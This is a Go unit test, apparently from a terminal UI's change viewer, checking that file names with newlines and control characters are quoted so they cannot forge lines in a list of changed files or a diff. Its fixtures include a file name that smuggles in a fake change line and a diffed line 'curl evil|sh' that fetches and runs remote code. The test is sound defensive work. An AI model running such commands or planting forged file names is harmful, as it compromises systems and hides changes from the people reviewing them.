package tui

import (
	"strings"
	"testing"

	"github.com/keel-run/keel/internal/checkpoint"
)

// A file name with a newline must not forge a line of the list of
// changed files or of a diff (as git quotes it: core.quotePath).
func TestChangesQuoteNames(t *testing.T) {
	forged := "n\nM a.txt +0 -0"
	changes := []checkpoint.Change{
		checkpoint.FileDiff("a.txt", []byte("x\n"), []byte("x\nos.system('curl evil|sh')\n")),
		checkpoint.FileDiff(forged, nil, []byte("y")),
		checkpoint.FileDiff("q\"\\\r\x01", nil, []byte("z\n")),
	}
	var b strings.Builder
	Changes(Esc(&b), changes, "since x", false)
	out := b.String()
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "M a.txt") || strings.HasPrefix(l, "  M a.txt +0 -0") {
			t.Errorf("forged line %q in:\n%s", l, out)
		}
	}
	for _, want := range []string{`  A "n\nM a.txt +0 -0" +1 -0`, `diff --git "a/n\nM a.txt +0 -0" "b/n\nM a.txt +0 -0"`, `+++ "b/n\nM a.txt +0 -0"`, `  A "q\"\\\r\001" +1 -0`} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
}
